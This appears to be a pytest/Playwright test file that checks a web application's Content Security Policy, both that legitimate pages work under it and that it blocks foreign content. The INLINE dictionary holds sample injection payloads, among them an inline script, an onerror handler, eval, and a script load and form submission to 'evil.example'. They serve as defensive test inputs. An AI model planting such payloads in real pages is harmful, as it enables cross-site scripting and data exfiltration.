"""The Content Security Policy in a browser: every page works under it, and what it is there to stop is stopped. That no
page of the other browser tests offends it is held by `editor_at`."""

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser
INLINE = {
    "a script in the page": "const s = document.createElement('script'); s.textContent = 'window.ran = true';"
    "document.body.append(s)",
    "a handler in the page": "const i = document.createElement('img'); i.setAttribute('onerror', 'window.ran = true');"
    "i.src = '/nothing.png'; document.body.append(i)",
    "eval": "const s = document.createElement('button'); s.onclick = () => { window.ran = eval('true') };"
    "document.body.append(s); s.click()",
    "another site's script": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.body.append(s)",
    "a form to another site": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
    "document.body.append(f); f.submit()",
}


def test_the_other_pages_respect_the_policy(editor_at):
    page = editor_at("/imports/")
    for address in ("/articles/1/claims/1/same-source/", "/actors/options/"):
        page.goto(address)
    page.wait_for_load_state("networkidle")


def test_the_admin_pages_work_under_the_policy(editor_at):
    page = editor_at("/admin/")
    for address in ("/admin/annotate/user/", "/admin/annotate/user/add/", "/admin/annotate/actor/"):
        assert page.goto(address).ok
        page.wait_for_load_state("networkidle")
    page.goto("/admin/annotate/user/")
    page.locator("#result_list").get_by_role("link", name="editor", exact=True).click()
    page.get_by_label("First name").fill("Demo")  # as it is: others read it
    page.get_by_role("button", name="Save and continue editing").click()
    expect(page.get_by_text("was changed successfully")).to_be_visible()


def test_scripts_and_styles_have_only_the_headers_they_need(editor_at):
    page = editor_at()
    address = page.locator("link[rel=stylesheet]").get_attribute("href")
    headers = page.request.get(address).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert "immutable" in headers["cache-control"]
    assert "content-security-policy" not in headers


@pytest.mark.parametrize("what", INLINE)
def test_the_policy_stops_foreign_content(browser, demo, what):
    page: Page = browser.new_context(base_url=demo.url).new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto("/login/")
    page.evaluate(f"setTimeout(() => {{ {INLINE[what]} }})")
    page.wait_for_timeout(300)
    assert any("Content Security Policy" in each for each in said), said
    assert page.evaluate("window.ran") is None
    assert page.url == f"{demo.url}/login/"
    page.context.close()
